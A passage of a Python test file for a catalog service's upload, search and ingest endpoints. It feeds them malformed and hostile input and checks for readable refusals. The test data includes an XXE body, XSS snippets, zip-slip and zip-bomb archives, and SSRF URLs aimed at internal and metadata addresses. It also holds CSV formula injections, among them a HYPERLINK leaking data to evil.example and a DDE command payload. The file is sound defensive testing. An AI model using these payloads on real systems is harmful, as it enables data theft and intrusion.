"""Bad input at every endpoint that takes a file, a URL or a manifest: the image upload, search (a file or an
image_url) and ingest jobs (a manifest, an archive, and the paths and URLs in its rows).

Each bad request gets a 4xx with a readable JSON error and changes nothing (rows and stored files compared
before and after); a bad row of an accepted ingest job fails alone with a readable error and stores nothing;
no request gets a 5xx, and the service keeps answering. The whole image corpus
(../shared/corpus/images) goes through the upload, search and ingest paths. The cases already covered in
test_api.py, test_search_api.py and test_ingest.py are not repeated here.
"""
import csv
import hashlib
import io
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from catalog import ingest, ingest_report, pipeline, search, services
from catalog.models import Category, IngestJob, IngestRow, Product, ProductImage
from ml.embedder import EmbedResult
from tests.catalog.ingest_files import make_csv, make_zip, post_job, run_job
from tests.conftest import CORPUS_DIR, photo_bytes

pytestmark = pytest.mark.django_db(transaction=True)

UPLOAD, SEARCH, INGEST = "upload", "search", "ingest"
ENDPOINTS = [UPLOAD, SEARCH, INGEST]
FILE_FIELD = {UPLOAD: "image", SEARCH: "image", INGEST: "manifest"}
ACCEPTS = {
    UPLOAD: ("multipart/form-data", "application/x-www-form-urlencoded"),
    SEARCH: ("multipart/form-data", "application/x-www-form-urlencoded", "application/json"),
    INGEST: ("multipart/form-data",),
}
# The decoded sizes most likely to upset a model's preprocessing (the fewest and the most pixels, the widest
# and the tallest): the corpus files of these sizes go through the real model after the search sweep.
EXTREMES = (
    lambda size: size[0] * size[1],
    lambda size: -size[0] * size[1],
    lambda size: size[1] / size[0],
    lambda size: size[0] / size[1],
)


@pytest.fixture(autouse=True)
def _setup(offline_model, monkeypatch):
    """The offline model; no throttling (the corpus alone is a thousand requests from one client)."""
    from django.core.cache import cache
    from rest_framework.throttling import ScopedRateThrottle

    cache.clear()
    monkeypatch.setattr(ScopedRateThrottle, "THROTTLE_RATES", {"search": "100000/min", "uploads": "100000/min"})


@pytest.fixture
def product():
    return services.product_create(sku="BASE-1", title="Base product")


@pytest.fixture
def deferred_embedding(monkeypatch):
    """Accepted images are recorded as queued instead of embedded in the request, as a deployment's workers
    would do later: the model costs tenths of a second an image on 2 cores, and these tests are about what
    the endpoints accept. The ids queued are returned, so a test can check that no accepted image is lost."""
    queued: list[int] = []

    def record(*, image_ids: list[int]) -> int:
        queued.extend(image_ids)
        return 1

    monkeypatch.setattr(pipeline, "images_queue_embedding", record)
    monkeypatch.setattr(services, "images_queue_embedding", record)
    monkeypatch.setattr(ingest, "images_queue_embedding", record)
    return queued


def corpus_files() -> list[Path]:
    assert CORPUS_DIR.is_dir(), (
        f"the image corpus is missing: expected it at {CORPUS_DIR} (../shared/corpus/images beside the "
        "repository, as CI has it)"
    )
    files = sorted(path for path in CORPUS_DIR.rglob("*") if path.is_file())
    assert len(files) >= 1000, f"the image corpus at {CORPUS_DIR} holds only {len(files)} files; see its README"
    return files


def media_files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


def state(media_root: Path) -> dict:
    """Everything a request could change: the catalog's rows, the ingest jobs, and the stored files."""
    return {
        "categories": list(Category.objects.order_by("pk").values_list("pk", "name", "slug", "parent_id")),
        "products": list(Product.objects.order_by("pk").values_list("pk", "sku", "title", "description", "price",
                                                                    "category_id")),
        "images": list(ProductImage.objects.order_by("pk").values_list("pk", "product_id", "sha256", "file",
                                                                       "status")),
        "jobs": list(IngestJob.objects.order_by("pk").values_list("pk", "status")),
        "rows": IngestRow.objects.count(),
        "files": media_files(media_root),
    }


def error_problem(response, status: int = 400) -> str | None:
    """Why `response` is not a refusal with `status` and a readable JSON error, or None if it is one."""
    if response.status_code != status:
        return f"HTTP {response.status_code}, not {status}: {response.content[:300]!r}"
    if not response["Content-Type"].startswith("application/json"):
        return f"the error is {response['Content-Type']}, not JSON"
    error = response.json().get("error")
    if not isinstance(error, str) or not 10 <= len(error) <= 2000:
        return f"the error is not a readable sentence: {error!r}"
    if "Traceback" in error or " object at 0x" in error or "internal error" in error:
        return f"the error shows internals: {error!r}"
    return None


def assert_refused(response, *expected: str, status: int = 400) -> str:
    problem = error_problem(response, status)
    assert problem is None, problem
    error = response.json()["error"]
    for text in expected:
        assert text in error, error
    return error


def still_serving(client, product_id: int | None = None) -> None:
    assert client.get("/api/categories/").status_code == 200
    listing = client.get("/api/products/")
    assert listing.status_code == 200 and listing.json()["count"] == Product.objects.count()
    if product_id is not None:
        assert client.get(f"/api/products/{product_id}/").status_code == 200


def url_of(endpoint: str, product) -> str:
    return {UPLOAD: f"/api/products/{product.pk}/images/", SEARCH: "/api/search/", INGEST: "/api/ingest-jobs/"}[endpoint]


def post_file(client, endpoint: str, product, name: str, data: bytes, content_type: str = "application/octet-stream"):
    return client.post(url_of(endpoint, product), {FILE_FIELD[endpoint]: SimpleUploadedFile(name, data, content_type)},
                       format="multipart")


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# ----- the whole corpus --------------------------------------------------------------------------

def test_every_corpus_file_is_stored_or_refused_by_the_upload_api(staff, product, deferred_embedding,
                                                                   isolated_data):
    media = isolated_data / "media"
    problems, accepted, refused = [], 0, 0
    for path in corpus_files():
        name, data = str(path.relative_to(CORPUS_DIR)), path.read_bytes()
        before = ProductImage.objects.count()
        response = post_file(staff, UPLOAD, product, path.name, data)
        if response.status_code in (200, 201):
            accepted += 1
            body = response.json()
            if body["sha256"] != sha256(data) or body["status"] != "pending":
                problems.append(f"{name}: accepted as {body}")
            if ProductImage.objects.count() != before + (response.status_code == 201):
                problems.append(f"{name}: HTTP {response.status_code} but {ProductImage.objects.count() - before} "
                                "new images")
        else:
            refused += 1
            problem = error_problem(response)
            if problem is None and ProductImage.objects.count() != before:
                problem = "refused, but an image was stored"
            if problem:
                problems.append(f"{name}: {problem}")
    assert not problems, f"{len(problems)} corpus files were mishandled:\n" + "\n".join(problems[:40])
    assert accepted > 100 and refused > 100  # the corpus holds both, so neither branch went untried

    images = ProductImage.objects.all()
    # Refused uploads left no file behind, and each accepted one is queued for embedding exactly once.
    assert media_files(media) == sorted(image.file.name for image in images)
    assert sorted(deferred_embedding) == sorted(image.pk for image in images)
    still_serving(staff, product.pk)


def test_every_corpus_file_gets_an_answer_or_a_readable_400_from_search(anon, photo, monkeypatch, isolated_data):
    """Every corpus file through search: the endpoint, the decoding, the answer. The model step of the accepted
    ones is stood in for (672 forward passes take minutes on 2 cores) and the sweep runs before anything is
    indexed (the same stand-in vector would search the index 672 times for nothing); then the catalog is
    indexed and the accepted files of the most extreme sizes go through the real model and the index."""
    real_query_embedder = search.query_embedder
    real_model = real_query_embedder()
    template = real_model.embed([Image.open(io.BytesIO(photo("chelsea")))], maps=True)
    handed: list[tuple[str, tuple[int, int]]] = []

    class QueryModel:
        min_side, preset, device = real_model.min_side, real_model.preset, real_model.device

        @staticmethod
        def embed(images, maps=False):
            handed.extend((image.mode, image.size) for image in images)
            for image in images:
                image.getpixel((0, 0))  # the pixels are loaded, not just the header
            return EmbedResult(vectors=np.repeat(template.vectors[:1], len(images), axis=0),
                               labels=[template.labels[0]] * len(images), identity=template.identity,
                               maps=np.repeat(template.maps[:1], len(images), axis=0) if maps else None)

    monkeypatch.setattr(search, "query_embedder", lambda: QueryModel)
    before = state(isolated_data / "media")
    problems, sizes = [], {}
    for path in corpus_files():
        name, data = str(path.relative_to(CORPUS_DIR)), path.read_bytes()
        response = anon.post("/api/search/", {"image": SimpleUploadedFile(path.name, data)}, format="multipart")
        if response.status_code == 200:
            body = response.json()
            if body["results"] != [] or body["labels"][0]["label"] != template.labels[0][0][0]:
                problems.append(f"{name}: an unexpected answer: {body}")
            sizes[path] = handed[-1][1]
        else:
            problem = error_problem(response)
            if problem:
                problems.append(f"{name}: {problem}")
    assert not problems, f"{len(problems)} corpus files were mishandled:\n" + "\n".join(problems[:40])
    assert 100 < len(sizes) < len(corpus_files()) - 100
    assert {mode for mode, _ in handed} == {"RGB"}  # whatever the file's mode, the model gets RGB
    assert state(isolated_data / "media") == before  # a query image is never stored

    monkeypatch.setattr(search, "query_embedder", real_query_embedder)
    for name in ("chelsea", "coffee"):
        product = services.product_create(sku=name.upper(), title=f"{name} print")
        services.product_image_add(product=product, data=photo(name), filename=f"{name}.jpg")
    extremes = {min(sizes, key=lambda path: key(sizes[path])) for key in EXTREMES}
    for path in sorted(extremes):
        response = anon.post("/api/search/", {"image": SimpleUploadedFile(path.name, path.read_bytes())},
                             format="multipart")
        assert response.status_code == 200, (path.name, sizes[path], response.content[:300])
        assert len(response.json()["results"]) == 2 and response.json()["labels"], path.name
    cat = anon.post("/api/search/", {"image": SimpleUploadedFile("cat.jpg", photo("chelsea", size=(300, 200)))},
                    format="multipart")
    assert cat.status_code == 200 and cat.json()["results"][0]["product"]["sku"] == "CHELSEA"


def test_the_corpus_as_an_ingest_archive(staff, deferred_embedding, isolated_data):
    files = corpus_files()
    members = {f"corpus/{path.relative_to(CORPUS_DIR)}": path.read_bytes() for path in files}
    manifest = make_csv([[f"C-{i:04d}", f"Corpus file {member}"[:300], member, "corpus", "1", ""]
                         for i, member in enumerate(members)])
    response = post_job(staff, manifest, make_zip(members))
    assert response.status_code == 202, response.content

    job = IngestJob.objects.get()
    rows = {row.number: row for row in job.rows.select_related("image__product")}
    assert len(rows) == len(files)
    problems, done, failed = [], 0, 0
    for i, (member, data) in enumerate(members.items()):
        row = rows[i + 2]  # the header is line 1
        if row.status == IngestRow.Status.DONE:
            done += 1
            if row.image.sha256 != sha256(data) or row.image.product.sku != f"C-{i:04d}":
                problems.append(f"{member}: stored as the wrong image or product")
        elif row.status == IngestRow.Status.FAILED:
            failed += 1
            if not row.error.startswith("image: ") or "Traceback" in row.error or len(row.error) < 20:
                problems.append(f"{member}: failed without a readable reason: {row.error!r}")
        else:
            problems.append(f"{member}: left {row.status}")
    assert not problems, f"{len(problems)} corpus rows were mishandled:\n" + "\n".join(problems[:40])
    assert done > 100 and failed > 100

    # A failed row stored nothing: one product and one image per done row, every file an image's or the job's.
    assert Product.objects.count() == ProductImage.objects.count() == done
    assert sorted(deferred_embedding) == sorted(ProductImage.objects.values_list("pk", flat=True))
    stored = media_files(isolated_data / "media")
    assert stored == sorted([*ProductImage.objects.values_list("file", flat=True), job.manifest.name,
                             job.archive.name])
    body = staff.get(f"/api/ingest-jobs/{job.pk}/").json()
    assert body["failed"] == failed and len(body["errors"]) == min(failed, 1000)
    still_serving(staff)


# ----- bodies and content types ------------------------------------------------------------------

@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        pytest.param("", b"", id="no-body"),
        pytest.param("multipart/form-data; boundary=xyz", b"", id="empty-multipart"),
        pytest.param("multipart/form-data", b"--xyz\r\n\r\n", id="multipart-without-boundary"),
        pytest.param("multipart/form-data; boundary=xyz", b"\x00\xff garbage, no parts \xfe", id="multipart-garbage"),
        pytest.param("multipart/form-data; boundary=xyz",
                     b'--xyz\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n\xff\xd8\xff',
                     id="multipart-unterminated"),
        pytest.param("application/json", b'{"image": "iVBORw0KGgo=", "manifest": "sku,title,image"}', id="json"),
        pytest.param("application/json", b'{"image_url": "http://example.com/a.jpg"', id="broken-json"),
        pytest.param("text/plain", b"sku,title,image\nA,a,a.jpg\n", id="text"),
        pytest.param("image/png", b"\x89PNG\r\n\x1a\n", id="raw-image-body"),
        pytest.param("application/xml", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
                                        b"<x>&e;</x>", id="xml"),
        pytest.param("application/x-www-form-urlencoded", b"image=abc&manifest=abc", id="form"),
    ],
)
def test_a_body_that_is_not_the_expected_upload_is_a_readable_4xx(staff, product, endpoint, content_type, body,
                                                                  isolated_data):
    """A media type the endpoint does not read is a 415; one it reads, without the file in it, a 400."""
    before = state(isolated_data / "media")
    response = staff.generic("POST", url_of(endpoint, product), body, content_type=content_type)
    media_type = content_type.split(";")[0]
    if media_type and media_type not in ACCEPTS[endpoint]:
        assert_refused(response, f'Unsupported media type "{media_type}"', status=415)
        accepted = response.json()["error"].split("This endpoint accepts: ")[1].rstrip(".").split(", ")
        assert sorted(accepted) == sorted(ACCEPTS[endpoint])
    else:
        assert_refused(response)
    assert state(isolated_data / "media") == before
    still_serving(staff, product.pk)


@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("length", ["abc", "-1", "1e9", " "])
def test_a_content_length_that_is_not_a_size_is_a_400(staff, product, endpoint, length, isolated_data):
    before = state(isolated_data / "media")
    response = staff.generic("POST", url_of(endpoint, product), b"--x--\r\n",
                             content_type="multipart/form-data; boundary=x", CONTENT_LENGTH=length)
    assert_refused(response)
    assert state(isolated_data / "media") == before


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_text_where_a_file_belongs_is_a_readable_400(staff, product, endpoint, isolated_data):
    before = state(isolated_data / "media")
    response = staff.post(url_of(endpoint, product), {FILE_FIELD[endpoint]: "cat.jpg"}, format="multipart")
    assert_refused(response, "not a file")
    assert state(isolated_data / "media") == before


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_a_file_over_its_size_limit_is_a_readable_400(staff, product, endpoint, settings, photo, isolated_data):
    if endpoint == INGEST:
        data = make_csv([[f"SKU-{i}", "a title", f"img/{i}.jpg", "", "", ""] for i in range(100)])
        limit = settings.INGEST_MAX_MANIFEST_BYTES = 1000
    else:
        data = photo("astronaut", fmt="PNG")
        limit = settings.MAX_UPLOAD_BYTES = 100_000
    assert limit < len(data) < settings.MAX_REQUEST_BYTES  # past the file's limit, not the request body's
    before = state(isolated_data / "media")
    assert_refused(post_file(staff, endpoint, product, "big.png", data), "limit")
    assert state(isolated_data / "media") == before


# ----- what is not an image, under an image's name -----------------------------------------------

def pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def corpus_bomb() -> bytes:
    path = CORPUS_DIR / "decompression_bomb.gif"
    assert path.is_file(), f"{path} is missing: the image corpus is expected at {CORPUS_DIR}"
    return path.read_bytes()


# (id, the name it is sent under, its bytes, what the error says)
NOT_IMAGES = [
    ("pdf", "photo.jpg", pdf, "not an image"),
    ("zip", "photo.png", lambda: make_zip({"a.txt": b"hello"}), "not an image"),
    ("exe", "photo.gif", lambda: b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200), "not an image"),
    ("elf", "photo.webp", lambda: b"\x7fELF\x02\x01\x01" + bytes(200), "not an image"),
    ("text", "photo.jpg", lambda: "Caf\u00e9 menu, not a photo\n".encode() * 20, "not an image"),
    ("json", "photo.png", lambda: b'{"image": "photo.png"}', "not an image"),
    ("html-page", "photo.jpg", lambda: b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>",
     "HTML page"),
    ("svg-with-script", "photo.png",
     lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
     "SVG is not accepted"),
    ("html-behind-png-header", "photo.png",
     lambda: b"\x89PNG\r\n\x1a\n<html><script>alert(document.cookie)</script></html>", "corrupt"),
    ("html-behind-gif-header", "photo.gif", lambda: b"GIF89a/*\x00\x00*/=1;<script>alert(1)</script>", "corrupt"),
    ("ppm", "photo.jpg", lambda: b"P6 2 2 255\n" + bytes(12), "PPM is not accepted"),
    ("truncated-jpeg", "cat.jpg", lambda: photo_bytes("chelsea")[:5000], "truncated"),
    ("decompression-bomb", "bomb.gif", corpus_bomb, "too large"),
]


@pytest.mark.parametrize("endpoint", [UPLOAD, SEARCH])
@pytest.mark.parametrize(("name", "data", "expected"), [case[1:] for case in NOT_IMAGES],
                         ids=[case[0] for case in NOT_IMAGES])
def test_what_is_not_an_image_is_refused_whatever_its_name(staff, product, endpoint, name, data, expected,
                                                           isolated_data):
    before = state(isolated_data / "media")
    # The client's content type is a claim like the name: both say image here.
    response = post_file(staff, endpoint, product, name, data(), content_type="image/png")
    assert_refused(response, expected)
    assert state(isolated_data / "media") == before
    still_serving(staff, product.pk)


def test_what_is_not_an_image_fails_its_ingest_row_and_stores_nothing(staff, photo, isolated_data):
    """Every row but the last names something that is not an image; they fail alone, and their category
    (made for them, inside their row's transaction) is gone with them."""
    archive = {f"img/{case_id}-{name}": data() for case_id, name, data, _ in NOT_IMAGES}
    archive["img/good.jpg"] = photo("coffee")
    manifest = make_csv([[f"BAD-{i}", f"Bad {i}", member, "junk/bad", "5", ""] for i, member in enumerate(archive)][:-1]
                        + [["GOOD-1", "Good", "img/good.jpg", "kitchen", "5", ""]])
    body = run_job(staff, manifest, make_zip(archive))
    assert body["status"] == "completed_with_errors", body
    assert (body["total"], body["succeeded"], body["failed"]) == (len(archive), 1, len(NOT_IMAGES))
    for error, (_, _, _, expected) in zip(body["errors"], NOT_IMAGES):
        assert error["error"].startswith("image: ") and expected in error["error"], error
    assert list(Product.objects.values_list("sku", flat=True)) == ["GOOD-1"]
    assert ProductImage.objects.count() == 1 and not Category.objects.filter(slug__in=["junk", "bad"]).exists()


# ----- archives and the paths in a manifest ------------------------------------------------------

def with_understated_member(members: dict[str, bytes]) -> bytes:
    """A ZIP of `members` and img/liar.jpg, whose headers claim 1,000 bytes for 30 MB of zeros (30 KB deflated)."""
    data = bytearray(make_zip({**members, "img/liar.jpg": bytes(30_000_000)}, zipfile.ZIP_DEFLATED))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local = archive.getinfo("img/liar.jpg").header_offset
    central = data.rindex(b"img/liar.jpg") - 46  # the name follows the 46-byte central directory entry
    struct.pack_into("<I", data, local + 22, 1000)
    struct.pack_into("<I", data, central + 24, 1000)
    return bytes(data)


def tar_gz() -> bytes:
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as archive:
        info = tarfile.TarInfo("img/a.jpg")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return buf.getvalue()


@pytest.mark.parametrize(
    ("archive", "expected"),
    [
        pytest.param(lambda: make_zip({"..\\..\\evil.jpg": b"x"}), "a path outside the archive", id="backslashes"),
        pytest.param(lambda: make_zip({"img/../../evil.jpg": b"x"}), "a path outside the archive", id="dot-dot-inside"),
        pytest.param(lambda: make_zip({"C:/Windows/evil.jpg": b"x"}), "a path outside the archive", id="drive-letter"),
        pytest.param(lambda: make_zip({"img/a.jpg": b"x" * 10, "img/bomb.bmp": bytes(20_000_000)}, zipfile.ZIP_DEFLATED),
                     "the mark of a zip bomb", id="bomb-nobody-names"),
        pytest.param(tar_gz, "not a readable ZIP file", id="tar-gz"),
        pytest.param(lambda: make_zip({"img/a.jpg": b"x" * 100})[:-30], "not a readable ZIP file", id="truncated"),
        pytest.param(lambda: bytes(1000), "not a readable ZIP file", id="zeros"),
    ],
)
def test_an_unsafe_or_unreadable_archive_is_a_400_and_stores_nothing(staff, archive, expected, isolated_data):
    before = state(isolated_data / "media")
    response = post_job(staff, make_csv([["A-1", "a", "img/a.jpg", "", "", ""]]), archive())
    assert_refused(response, expected)
    assert state(isolated_data / "media") == before


def test_rows_naming_paths_outside_the_archive_fail_and_read_nothing(staff, photo, deferred_embedding):
    archive = with_understated_member({
        "img/cat.jpg": photo("chelsea"), "img/nested.zip": make_zip({"img/cat.jpg": photo("chelsea")}),
    })
    paths = ["../../../../etc/passwd", "/etc/passwd", "C:\\Windows\\win.ini", "img/../../../etc/passwd",
             "img/nested.zip", "img/nested.zip/img/cat.jpg", "img/liar.jpg", "file:///etc/passwd"]
    manifest = make_csv([[f"P-{i}", "Path", path, "", "", ""] for i, path in enumerate(paths)]
                        + [["OK-1", "Cat", "img/cat.jpg", "", "", ""]])
    body = run_job(staff, manifest, archive)
    assert (body["total"], body["failed"]) == (len(paths) + 1, len(paths)), body
    errors = {e["sku"]: e["error"] for e in body["errors"]}
    for i, path in enumerate(paths):
        assert errors[f"P-{i}"].startswith("image: ") and "Traceback" not in errors[f"P-{i}"], (path, errors)
    assert "not an image" in errors[f"P-{paths.index('img/nested.zip')}"]
    assert "cannot be read from the archive" in errors[f"P-{paths.index('img/liar.jpg')}"]
    assert "only http and https" in errors[f"P-{paths.index('file:///etc/passwd')}"]
    assert list(Product.objects.values_list("sku", flat=True)) == ["OK-1"]


# ----- manifests ---------------------------------------------------------------------------------

def utf16(text: str, bom: bool = True) -> bytes:
    return text.encode("utf-16" if bom else "utf-16-le")


@pytest.mark.parametrize(
    ("name", "manifest", "expected"),
    [
        pytest.param("m.csv", b"sku,title,image\nA-1,a\x00b,a.jpg\n", "line 2 holds a NUL character", id="nul-byte"),
        pytest.param("m.csv", utf16("sku,title,image\nA-1,Caf\u00e9,a.jpg\n"), "UTF-16 text", id="utf16"),
        pytest.param("m.csv", utf16("sku,title,image\nA-1,a,a.jpg\n", bom=False), "NUL character", id="utf16-no-bom"),
        pytest.param("m.csv", "sku,title,image\nA-1,\u201cQuoted\u201d,a.jpg\n".encode("cp1252"), "not UTF-8 text",
                     id="cp1252"),
        pytest.param("m.jsonl", '{"sku": "A-1", "title": "Caf\u00e9", "image": "a.jpg"}\n'.encode("latin-1"),
                     "not UTF-8 text", id="latin1-jsonl"),
        pytest.param("products.xlsx", make_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}),
                     "Excel .xlsx workbook", id="xlsx"),
        pytest.param("products.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "Excel 97-2003", id="xls"),
        pytest.param("products.csv", b"\x89PNG\r\n\x1a\n" + bytes(100), "not UTF-8 text", id="png"),
        pytest.param("m.csv", b"sku,title,image\nA-1," + b"x" * 200_000 + b",a.jpg\n", "field larger than field limit",
                     id="huge-field"),
        pytest.param("m.jsonl", b'{"sku": "A-1", "title": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n",
                     "nested too deeply", id="deep-json"),
        pytest.param("m.json", b'[{"sku": "A-1", "title": "a", "image": "a.jpg"}]', "first line is not a JSON object",
                     id="json-array"),
        pytest.param("m.csv", b"\n\n   \n", "has no sku, title, image columns", id="blank-lines"),
        pytest.param("m.csv", b"\xef\xbb\xbf", "is empty", id="only-a-bom"),
        pytest.param("m.csv", b"SKU;Title;Image\nA-1;a;a.jpg\n", "has no sku, title, image columns", id="semicolons"),
    ],
)
def test_an_unusable_manifest_is_a_400_and_stores_nothing(staff, name, manifest, expected, isolated_data):
    before = state(isolated_data / "media")
    assert_refused(post_job(staff, manifest, name=name), expected)
    assert state(isolated_data / "media") == before


def test_missing_and_extra_columns_in_rows(staff, photo, deferred_embedding):
    """Extra columns are ignored; a row short of a required value fails alone; a longer row's extra
    values are ignored; the header's case, order and spaces do not matter."""
    text = (
        " Image ,SKU,notes,Title,price,internal_cost\n"
        "img/cat.jpg,EXTRA-1,ignore me,Cat print,5,3.20,and,more,values\n"
        "img/coffee.jpg,SHORT-1\n"
        "img/coffee.jpg\n"
        ",NOIMG-1,,No image\n"
        "img/coffee.jpg,OK-1,,Coffee\n"
    )
    archive = make_zip({"img/cat.jpg": photo("chelsea"), "img/coffee.jpg": photo("coffee")})
    body = run_job(staff, text.encode(), archive)
    assert (body["total"], body["failed"]) == (5, 3), body
    assert {e["row"]: e["error"] for e in body["errors"]} == {
        3: "title: the title is empty",
        4: "sku: the sku is empty",
        5: "image: the image is empty; give a path inside the archive or an http(s) URL",
    }
    assert sorted(Product.objects.values_list("sku", flat=True)) == ["EXTRA-1", "OK-1"]
    extra = Product.objects.get(sku="EXTRA-1")
    assert (extra.title, extra.description, extra.attributes, str(extra.price)) == ("Cat print", "", {}, "5.00")


def test_json_lines_values_that_are_not_text_fail_their_row(staff, photo, deferred_embedding):
    lines = [
        '{"sku": "OK-1", "title": "Cat", "image": "img/cat.jpg"}',
        '{"sku": "NUL-1", "title": "a\\u0000b", "image": "img/cat.jpg"}',
        '{"sku": ["A", "B"], "title": "List", "image": "img/cat.jpg"}',
        '{"sku": "OBJ-1", "title": {"en": "Cat"}, "image": "img/cat.jpg"}',
        '{"sku": "DEEP-1", "title": ' + "[" * 100_000 + "]" * 100_000 + ', "image": "img/cat.jpg"}',
        '{"sku": "NAN-1", "title": "NaN price", "image": "img/cat.jpg", "price": NaN}',
        '{"sku": "BIG-1", "title": "Big", "image": "img/cat.jpg", "price": 1' + "0" * 5000 + "}",
    ]
    body = run_job(staff, "\n".join(lines).encode(), make_zip({"img/cat.jpg": photo("chelsea")}), name="m.jsonl")
    errors = {e["row"]: e["error"] for e in body["errors"]}
    assert sorted(errors) == [2, 3, 4, 5, 6, 7], body
    assert errors[2] == "title: holds a NUL character"
    assert "is not text or a number" in errors[3] and "is not text or a number" in errors[4]
    assert errors[5] == "the line is JSON nested too deeply to read"
    assert "price" in errors[6] and all(len(error) < 500 for error in errors.values())
    assert list(Product.objects.values_list("sku", flat=True)) == ["OK-1"]


# ----- URLs --------------------------------------------------------------------------------------

# None of these may be fetched; none needs a name server to be refused.
BAD_URLS = [
    ("file:///etc/passwd", ("valid URL", "only http and https")),
    ("data:image/png;base64,iVBORw0KGgo=", ("valid URL", "no archive")),
    ("javascript:alert(1)", ("valid URL", "no archive")),
    ("gopher://127.0.0.1:70/_GET", ("valid URL", "only http and https")),
    ("http://0.0.0.0/a.jpg", ("not a public address",) * 2),
    ("http://10.0.0.7/a.jpg", ("not a public address",) * 2),
    ("http://100.64.0.1/a.jpg", ("not a public address",) * 2),
    ("http://[fd00::1]/a.jpg", ("not a public address",) * 2),
    ("http://[::ffff:169.254.169.254]/latest/meta-data/", ("not a public address",) * 2),
    ("http://2130706433/a.jpg", ("valid URL", "not a public address")),
    ("http://user:secret@127.0.0.1/a.jpg", ("user name or password",) * 2),
    ("http://127.0.0.1:99999/a.jpg", ("invalid port",) * 2),
    ("http://127.0.0.1/" + "a" * 3000 + ".jpg", ("2000 characters", "not a public address")),
]


@pytest.mark.parametrize(("url", "expected"), [(url, expected[0]) for url, expected in BAD_URLS],
                         ids=[url[:40] for url, _ in BAD_URLS])
def test_a_url_search_never_fetches_what_it_must_not(anon, url, expected, isolated_data):
    before = state(isolated_data / "media")
    assert_refused(anon.post("/api/search/", {"image_url": url}, format="json"), expected)
    assert state(isolated_data / "media") == before


def test_ingest_rows_with_urls_that_must_not_be_fetched_fail_alone(staff):
    manifest = make_csv([[f"URL-{i}", "From a URL", url, "", "", ""] for i, (url, _) in enumerate(BAD_URLS)])
    body = run_job(staff, manifest)
    assert (body["status"], body["failed"]) == ("completed_with_errors", len(BAD_URLS))
    errors = {e["sku"]: e["error"] for e in body["errors"]}
    for i, (url, (_, expected)) in enumerate(BAD_URLS):
        assert expected in errors[f"URL-{i}"] and len(errors[f"URL-{i}"]) < 1000, (url, errors[f"URL-{i}"])
    assert not Product.objects.exists() and not ProductImage.objects.exists()


# ----- the name an upload is sent under, and text that is not UTF-8 ------------------------------

def multipart(parts: list[tuple[bytes, bytes | None, bytes]]) -> bytes:
    """A multipart body of (field name, file name or None, value), with the bytes exactly as given."""
    body = b""
    for field, filename, value in parts:
        disposition = b'form-data; name="' + field + b'"' + (b'; filename="' + filename + b'"' if filename else b"")
        body += b"--xyz\r\nContent-Disposition: " + disposition + b"\r\n\r\n" + value + b"\r\n"
    return body + b"--xyz--\r\n"


def test_names_and_fields_that_are_not_utf8_are_refused_readably(staff, product, photo, isolated_data):
    """Multipart headers are UTF-8 (RFC 7578, and what browsers send); a part whose header is not is skipped,
    so its file counts as not sent. A field value that is not UTF-8 is read with replacement characters."""
    def send(endpoint, parts):
        return staff.generic("POST", url_of(endpoint, product), multipart(parts),
                             content_type="multipart/form-data; boundary=xyz")

    before = state(isolated_data / "media")
    assert_refused(send(UPLOAD, [(b"image", b"caf\xe9 \xff.jpg", photo("chelsea", size=(64, 48)))]),
                   "No file was submitted (image)")
    assert_refused(send(SEARCH, [(b"image", b"cat.jpg", photo("chelsea")), (b"k", None, b"\xff\xfe")]), "k (how many results)")
    assert_refused(send(SEARCH, [(b"image_url", None, b"http://\xff\xfe.example/a.jpg")]), "(image_url)")
    assert_refused(send(INGEST, [(b"manifest", b"produits \xe9t\xe9.csv", b"sku,title,image\nA-1,a,a.jpg\n")]),
                   "No file was submitted (manifest)")
    assert state(isolated_data / "media") == before
    still_serving(staff, product.pk)


@pytest.mark.parametrize(
    "name",
    ["../../../../tmp/evil.jpg", "..\\..\\evil.jpg", "/etc/passwd", "C:\\Windows\\evil.jpg", "x" * 1000 + ".jpg",
     "\u202egpj.exe", "caf\u00e9 \u2603.jpg", ".htaccess", "photo.jpg.html"],
)
def test_an_uploads_name_never_chooses_where_it_is_stored(staff, product, photo, name, deferred_embedding,
                                                          isolated_data):
    response = post_file(staff, UPLOAD, product, name, photo("chelsea", size=(64, 48)))
    assert response.status_code == 201, response.content
    stored = ProductImage.objects.get().file.name
    assert stored.startswith("images/") and stored.endswith(".jpg") and ".." not in stored and len(stored) < 200
    assert media_files(isolated_data / "media") == [stored]


# ----- formulas in fields that reach the admin and the ingest report -----------------------------

FORMULA_ROWS = [
    # sku, title, image, category, price, description
    ["=1+2", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "img/cat.jpg", "@evil/-minus", "12",
     "+cmd|' /C calc'!A0"],
    ["-2+3", "@SUM(1+1)", "=img/none.jpg", "", "-5", "=1"],
    ["SAFE-1", "Coffee - with milk", "img/coffee.jpg", "kitchen", "3", "A mug; = is fine inside"],
]


@pytest.fixture
def formula_job(staff, photo):
    archive = make_zip({"img/cat.jpg": photo("chelsea"), "img/coffee.jpg": photo("coffee")})
